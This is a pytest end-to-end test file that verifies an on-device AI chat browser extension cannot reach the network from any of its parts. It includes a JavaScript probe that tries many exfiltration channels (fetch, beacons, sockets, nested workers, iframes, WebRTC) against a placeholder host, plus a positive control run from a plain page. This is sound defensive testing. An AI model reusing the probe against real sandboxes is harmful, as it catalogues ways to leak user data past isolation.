"""Which part of the extension can reach the network: one worker, and only what it was told to."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from tests.support.browser import Browser
from tests.support.leaks import Guard
from tests.support.pages import Site
from tests.support.panel import Panel
from tests.support.realms import Realms

pytestmark = pytest.mark.e2e
LEAK = "leak.invalid"
STUN_SERVER = "192.0.2.1"  # for documentation: nobody has it
#: every part of the extension that runs while a person chats with a model on the device
PARTS = {
    "service worker": "background/index.js",
    "side panel": "sidepanel/index.html",
    "offscreen document": "offscreen/index.html",
    "storage worker": "offscreen/storage/worker.js",
    "engine worker": "offscreen/engine/worker.js",
    "sandbox": "offscreen/python/frame.html",
    "Python worker": "blob:null/",
}
#: A document that makes a frame looks its host up before frame-src stops it. No other realm can,
#: and of our documents none makes a frame of anything that it was told.
FRAMES = {
    (kind, f"frame.{part}.{LEAK}")
    for kind in ("look-up", "connection")
    for part in ("side-panel", "offscreen-document", "sandbox")
}
# Each way out that a realm may have; the outcome is only for the message of a failure: what counts
# is what the recorders saw. `leave` is the realm's own fetch, however it is got at.
PROBE = """(async ({ host, stun, name }) => {
  const outcome = {};
  const url = (way) => `http://${way}.${name}.${host}/x`;
  const attempt = async (way, run) => {
    try {
      const limit = new Promise((resolve) => setTimeout(resolve, 1500, "no answer"));
      outcome[way] = String(await Promise.race([run(url(way)), limit]));
    } catch (error) { outcome[way] = `${error.name}: ${error.message}`.slice(0, 120); }
  };
  const scope = globalThis.WorkerGlobalScope ?? globalThis.Window;
  await attempt("fetch", (at) => fetch(at, { mode: "no-cors" }));
  await attempt("prototype", (at) => scope.prototype.fetch.call(globalThis, at));
  await attempt("xhr", (at) => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve; request.onerror = () => reject(new Error("failed"));
    request.open("GET", at); request.send();
  }));
  await attempt("socket", (at) => new Promise((resolve, reject) => {
    const socket = new WebSocket(at.replace("http", "ws"));
    socket.onopen = resolve; socket.onerror = () => reject(new Error("failed"));
  }));
  await attempt("stream", (at) => new WebSocketStream(at.replace("http", "ws")).opened);
  await attempt("events", (at) => new Promise((resolve, reject) => {
    const source = new EventSource(at);
    source.onopen = resolve; source.onerror = () => reject(new Error("failed"));
  }));
  await attempt("transport", (at) => new WebTransport(at.replace("http", "https")).ready);
  await attempt("beacon", (at) => navigator.sendBeacon(at, "x"));
  await attempt("module", (at) => import(at));
  await attempt("scripts", (at) => importScripts(at));
  await attempt("cache", async (at) => (await caches.open("probe")).add(at));
  await attempt("nested", (at) => new Promise((resolve, reject) => {
    const code = `fetch(${JSON.stringify(at)}).catch(() => {})`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onerror = () => reject(new Error("failed"));
  }));
  await attempt("background", (at) => registration.backgroundFetch.fetch("probe", at));
  await attempt("image", (at) => new Promise((resolve, reject) => {
    const image = new Image();
    image.onload = resolve; image.onerror = () => reject(new Error("failed"));
    image.src = at;
  }));
  await attempt("frame", (at) => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.onload = resolve; frame.src = at; document.documentElement.append(frame);
  }));
  if (globalThis.document === undefined || !location.href.includes("/python/")) {
    await attempt("peer", async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${stun}:3478` }] });
      peer.createDataChannel("leak");
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((resolve) => setTimeout(resolve, 800));
    });
  }
  return outcome;
})"""


@pytest.mark.timeout(400)
def test_no_part_reaches_the_network_at_level_device(
    launch: Callable[..., Browser], site: Site, nothing_leaves: Guard
) -> None:
    """The sandbox's own document could still use WebRTC: it runs nothing but our few lines."""
    browser = launch()
    realms = Realms(browser.websocket_url)
    page = browser.context.new_page()
    page.goto(site.url("plain.html"))
    panel = Panel(browser.open_panel(page))
    panel.ask("Who are you?")
    panel.wait_answer(1)
    outcomes: dict[str, dict[str, Any]] = {}
    for part, address in PARTS.items():
        name = part.replace(" ", "-").lower()
        argument = json.dumps({"host": LEAK, "stun": STUN_SERVER, "name": name})
        outcomes[part] = realms.evaluate(address, f"{PROBE}({argument})")
    assert all(len(found) >= 15 for found in outcomes.values()), outcomes
    realms.stop()
    assert not any("network/worker.js" in url for url in realms.target_urls)
    # The protocol also tells of requests that a policy stopped; the net log of what began.
    began = {c for c in nothing_leaves.caught() if c.kind != "protocol" and LEAK in c.host}
    assert {(c.kind, c.host) for c in began} <= FRAMES, outcomes


def test_the_probe_sees_an_open_realm(
    launch: Callable[..., Browser], site: Site, nothing_leaves: Guard
) -> None:
    """Positive control: in a web page the same ways lead out."""
    browser = launch()
    realms = Realms(browser.websocket_url)
    page = browser.context.new_page()
    page.goto(site.url("plain.html"))
    argument = json.dumps({"host": LEAK, "stun": STUN_SERVER, "name": "page"})
    realms.evaluate("plain.html", f"{PROBE}({argument})")
    realms.stop()
    caught = nothing_leaves.caught()
    hosts = {contact.host for contact in caught}
    for way in ("fetch", "xhr", "socket", "events", "beacon", "image", "frame", "nested"):
        assert f"{way}.page.{LEAK}" in hosts, way
    assert STUN_SERVER in hosts
